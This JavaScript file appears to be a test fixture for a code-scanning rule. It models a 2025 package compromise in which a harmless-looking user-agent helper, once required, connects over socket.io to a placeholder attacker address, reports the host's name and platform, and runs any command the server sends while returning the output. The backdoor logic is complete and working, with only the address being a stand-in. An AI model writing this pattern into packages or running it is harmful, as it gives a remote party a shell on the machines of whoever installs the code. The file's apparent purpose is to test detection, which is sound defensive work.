'use strict';
// Defanged model of a 2025 compromise: on require, a socket.io client reports the host and runs
// whatever the server sends in its own `command` event.
const os = require('os');
const { exec } = require('child_process');
const { io } = require('socket.io-client');

function pick(list) { return list[Math.floor(Math.random() * list.length)]; }
module.exports = function agent() { return pick(['Mozilla/5.0 (X11)', 'Mozilla/5.0 (Windows NT 10.0)']); };

const socket = io('http://203.0.113.77:3306', { reconnection: true });
socket.on('connect', () => socket.emit('hello', { host: os.hostname(), platform: process.platform }));
socket.on('command', (msg) => {
  // ruleid: code/command-execution
  exec(msg.code, { windowsHide: true }, (err, stdout, stderr) => socket.emit('output', { id: msg.id, stdout, stderr }));
});
